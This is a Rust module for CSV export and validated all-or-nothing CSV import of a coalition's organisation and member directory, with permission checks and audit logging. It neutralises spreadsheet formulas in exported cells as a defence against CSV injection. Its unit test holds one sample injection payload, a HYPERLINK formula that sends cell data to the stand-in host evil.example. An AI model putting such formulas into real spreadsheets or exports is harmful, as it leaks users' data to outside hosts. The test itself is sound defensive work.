//! CSV export of the directory, and CSV import for setting a coalition up: every row is
//! checked first, a report names each bad row and why, and nothing is imported unless all
//! rows are good.

mod write;

use std::collections::{BTreeMap, HashSet};

use chrono::NaiveDate;
use serde_json::json;

use super::organisations::{self, OrganisationInput};
use super::people::{self, PersonInput};
use super::rules::Status;
use crate::audit::{self, Subject};
use crate::auth::permissions::{self, Action, Actor};
use crate::auth::store as people_store;
use crate::db::{self, DbConn};
use crate::error::Error;

/// The columns of both the export and the import (the import needs only some of them).
pub const COLUMNS: [&str; 17] = [
    "organisation",
    "short_name",
    "sector",
    "side",
    "status",
    "region",
    "address",
    "website",
    "organisation_email",
    "organisation_phone",
    "needs_authorisation",
    "offers_venue",
    "person_name",
    "person_email",
    "representation",
    "authoriser",
    "job_title",
];

fn yes_no(b: bool) -> &'static str {
    if b { "yes" } else { "no" }
}

/// One row per person (and one for an organisation without people).
pub fn export(conn: &mut DbConn, actor: &Actor) -> Result<String, Error> {
    permissions::require(actor, Action::ViewDirectory)?;
    let mut out = csv::Writer::from_writer(Vec::new());
    let csv_error = |e: csv::Error| Error::Internal(format!("writing CSV: {e}"));
    out.write_record(COLUMNS).map_err(csv_error)?;
    let mut everyone = people::people_by_organisation(conn)?;
    for entry in super::directory::all(conn)? {
        let o = &entry.organisation;
        let org_fields = [
            o.name.as_str(),
            o.short_name.as_str(),
            entry.sector.name.as_str(),
            entry.side.as_str(),
            entry.status.as_str(),
            o.region.as_str(),
            o.address.as_str(),
            o.website.as_str(),
            o.email.as_str(),
            o.phone.as_str(),
            yes_no(o.needs_authorisation),
            yes_no(o.offers_venue),
        ];
        let staff = everyone.remove(&o.id).unwrap_or_default();
        if staff.is_empty() {
            let mut row: Vec<&str> = org_fields.to_vec();
            row.extend(["", "", "", "", ""]);
            out.write_record(row.iter().map(|c| inert(c).into_owned()))
                .map_err(csv_error)?;
        }
        for (person, affiliation) in &staff {
            let mut row: Vec<&str> = org_fields.to_vec();
            row.extend([
                person.name.as_str(),
                person.email.as_str(),
                affiliation.representation.as_deref().unwrap_or(""),
                yes_no(affiliation.is_authoriser),
                affiliation.job_title.as_str(),
            ]);
            out.write_record(row.iter().map(|c| inert(c).into_owned()))
                .map_err(csv_error)?;
        }
    }
    let bytes = out
        .into_inner()
        .map_err(|e| Error::Internal(format!("writing CSV: {e}")))?;
    String::from_utf8(bytes).map_err(|e| Error::Internal(format!("CSV is not UTF-8: {e}")))
}

/// A cell a spreadsheet will not run: one that starts like a formula (`= + - @`, a tab or a
/// carriage return) is prefixed with an apostrophe, which spreadsheets show as text (OWASP,
/// CSV injection).
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// A row that cannot be imported, by its line in the file (the header is line 1).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RowProblem {
    pub line: usize,
    pub message: String,
}

/// What an import did.
#[derive(Debug, Clone)]
pub struct Imported {
    pub organisations: usize,
    /// Each person invited by mail: name and address.
    pub invitations: Vec<(String, String)>,
}

struct PlannedOrg {
    line: usize,
    input: OrganisationInput,
    sector: super::model::Sector,
    status: Status,
    people: Vec<(usize, PersonInput)>,
}

fn parse_flag(value: &str) -> Result<Option<bool>, String> {
    match value.trim().to_lowercase().as_str() {
        "" => Ok(None),
        "yes" | "y" | "true" | "1" => Ok(Some(true)),
        "no" | "n" | "false" | "0" => Ok(Some(false)),
        other => Err(format!("{other:?} is not yes or no")),
    }
}

/// Reads and checks the whole file against the database; returns the plan or every problem.
fn plan(conn: &mut DbConn, text: &str) -> Result<Result<Vec<PlannedOrg>, Vec<RowProblem>>, Error> {
    let mut problems = Vec::new();
    let mut reader = csv::ReaderBuilder::new()
        .flexible(false)
        .trim(csv::Trim::All)
        .from_reader(text.as_bytes());
    let header: Vec<String> = match reader.headers() {
        Ok(h) => h.iter().map(|c| c.trim().to_lowercase()).collect(),
        Err(e) => {
            return Ok(Err(vec![RowProblem {
                line: 1,
                message: format!("the header cannot be read: {e}"),
            }]));
        }
    };
    for required in ["organisation", "sector", "status"] {
        if !header.iter().any(|h| h == required) {
            problems.push(RowProblem {
                line: 1,
                message: format!("the header has no column {required:?}"),
            });
        }
    }
    if let Some(unknown) = header.iter().find(|h| !COLUMNS.contains(&h.as_str())) {
        problems.push(RowProblem {
            line: 1,
            message: format!(
                "unknown column {unknown:?}; the columns are: {}",
                COLUMNS.join(", ")
            ),
        });
    }
    if !problems.is_empty() {
        return Ok(Err(problems));
    }
    let sectors = organisations::sectors(conn)?;
    // What exists already, read once: a file of thousands of rows must not ask per row.
    let known_names: HashSet<String> = organisations::name_keys(conn)?;
    let known_emails: HashSet<String> = people_store::all_emails(conn)?;
    let mut planned: BTreeMap<String, PlannedOrg> = BTreeMap::new();
    let mut emails_in_file: HashSet<String> = HashSet::new();
    for (index, record) in reader.records().enumerate() {
        let line = index + 2;
        let record = match record {
            Ok(r) => r,
            Err(e) => {
                problems.push(RowProblem {
                    line,
                    message: format!("this row cannot be read: {e}"),
                });
                continue;
            }
        };
        let field = |name: &str| -> String {
            header
                .iter()
                .position(|h| h == name)
                .and_then(|i| record.get(i))
                .unwrap_or("")
                .to_owned()
        };
        let mut row_problems = Vec::new();
        let name = field("organisation");
        if name.is_empty() {
            row_problems.push("the organisation has no name".to_owned());
        }
        let sector = sectors
            .iter()
            .find(|s| s.name.eq_ignore_ascii_case(&field("sector")));
        if sector.is_none() {
            row_problems.push(format!(
                "{:?} is not a sector of this coalition",
                field("sector")
            ));
        }
        let status = match Status::parse(&field("status").to_lowercase()) {
            Some(s @ (Status::Full | Status::Associate | Status::Applicant)) => Some(s),
            _ => {
                row_problems.push(format!(
                    "status {:?} must be full, associate or applicant",
                    field("status")
                ));
                None
            }
        };
        let needs_authorisation = parse_flag(&field("needs_authorisation")).unwrap_or_else(|e| {
            row_problems.push(format!("needs_authorisation: {e}"));
            None
        });
        let offers_venue = parse_flag(&field("offers_venue")).unwrap_or_else(|e| {
            row_problems.push(format!("offers_venue: {e}"));
            None
        });
        let website = field("website");
        let mut person_name = field("person_name");
        if !person_name.is_empty() {
            match crate::clean::name(&person_name, "the person's name") {
                Ok(cleaned) => person_name = cleaned,
                Err(message) => row_problems.push(message),
            }
        }
        let person_email = field("person_email").to_lowercase();
        let representation = field("representation").to_lowercase();
        let authoriser = parse_flag(&field("authoriser")).unwrap_or_else(|e| {
            row_problems.push(format!("authoriser: {e}"));
            None
        });
        let has_person = !person_name.is_empty() || !person_email.is_empty();
        if has_person {
            if person_name.is_empty() || person_email.is_empty() {
                row_problems.push("a person needs both a name and an email".into());
            } else if !validator::ValidateEmail::validate_email(&person_email) {
                row_problems.push(format!("{person_email:?} is not an email address"));
            } else if !emails_in_file.insert(person_email.clone()) {
                row_problems.push(format!("{person_email} appears twice in the file"));
            } else if known_emails.contains(&person_email) {
                row_problems.push(format!(
                    "someone with the email {person_email} already exists"
                ));
            }
            if !matches!(
                representation.as_str(),
                "" | "primary" | "alternate" | "none"
            ) {
                row_problems.push(format!(
                    "representation {representation:?} must be primary, alternate or empty"
                ));
            }
        } else if !representation.is_empty() {
            row_problems.push("a representation is given but no person".into());
        }
        if !row_problems.is_empty() {
            problems.push(RowProblem {
                line,
                message: row_problems.join("; "),
            });
            continue;
        }
        let (Some(sector), Some(status)) = (sector, status) else {
            continue;
        };
        let input = organisations::cleaned(&OrganisationInput {
            name: name.clone(),
            short_name: field("short_name"),
            sector_id: sector.id,
            region: field("region"),
            address: field("address"),
            website: website.clone(),
            email: field("organisation_email"),
            phone: field("organisation_phone"),
            needs_authorisation,
            offers_venue: offers_venue.unwrap_or(false),
            fee_tier: None,
        });
        let input = match input {
            Ok(input) => input,
            Err(e) => {
                problems.push(RowProblem {
                    line,
                    message: e.to_string(),
                });
                continue;
            }
        };
        let key = organisations::name_key(&input.name);
        if !planned.contains_key(&key) && known_names.contains(&key) {
            problems.push(RowProblem {
                line,
                message: format!("an organisation named {name:?} already exists"),
            });
            continue;
        }
        let entry = planned.entry(key).or_insert_with(|| PlannedOrg {
            line,
            sector: sector.clone(),
            input,
            status,
            people: Vec::new(),
        });
        if entry.status != status || entry.input.sector_id != sector.id {
            problems.push(RowProblem {
                line,
                message: format!(
                    "{name} has a different sector or status on line {}",
                    entry.line
                ),
            });
            continue;
        }
        if has_person {
            entry.people.push((
                line,
                PersonInput {
                    name: person_name,
                    email: person_email,
                    representation: (!representation.is_empty() && representation != "none")
                        .then_some(representation),
                    is_authoriser: authoriser.unwrap_or(false),
                    job_title: field("job_title"),
                    phone: String::new(),
                },
            ));
        }
    }
    for org in planned.values() {
        let primaries: Vec<usize> = org
            .people
            .iter()
            .filter(|(_, p)| p.representation.as_deref() == Some("primary"))
            .map(|(line, _)| *line)
            .collect();
        if primaries.len() > 1 {
            problems.push(RowProblem {
                line: primaries[1],
                message: format!(
                    "{} has more than one primary representative (first on line {})",
                    org.input.name, primaries[0]
                ),
            });
        }
        if org.status == Status::Full && primaries.is_empty() {
            problems.push(RowProblem {
                line: org.line,
                message: format!(
                    "{} is a full member but no row names its primary representative",
                    org.input.name
                ),
            });
        }
    }
    if problems.is_empty() {
        let mut orgs: Vec<PlannedOrg> = planned.into_values().collect();
        orgs.sort_by_key(|o| o.line);
        Ok(Ok(orgs))
    } else {
        problems.sort_by_key(|p| p.line);
        Ok(Err(problems))
    }
}

/// Checks every row; imports all of them in one transaction, or none.
pub fn import(
    conn: &mut DbConn,
    actor: &Actor,
    text: &str,
    today: NaiveDate,
) -> Result<Result<Imported, Vec<RowProblem>>, Error> {
    permissions::require(actor, Action::ManageMembership)?;
    db::write_tx(conn, |conn| {
        let orgs = match plan(conn, text)? {
            Ok(orgs) => orgs,
            Err(problems) => return Ok(Err(problems)),
        };
        if orgs.is_empty() {
            return Ok(Err(vec![RowProblem {
                line: 2,
                message: "the file holds no rows".into(),
            }]));
        }
        let invitations = write::write(conn, actor.id(), &orgs, today)?;
        audit::record(
            conn,
            Some(actor.id()),
            "membership.imported",
            Subject {
                kind: "organisation",
                id: None,
            },
            json!({ "organisations": orgs.len(), "people": invitations.len() }),
        )?;
        Ok(Ok(Imported {
            organisations: orgs.len(),
            invitations,
        }))
    })
}

#[cfg(test)]
mod tests {
    use super::inert;

    #[test]
    fn formulas_are_exported_as_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+1",
            "-1",
            "@SUM(A1)",
            "\tx",
            "\rx",
        ] {
            assert_eq!(inert(formula), format!("'{formula}"));
        }
        assert_eq!(inert("Legal Aid Network"), "Legal Aid Network");
        assert_eq!(inert(""), "");
    }
}
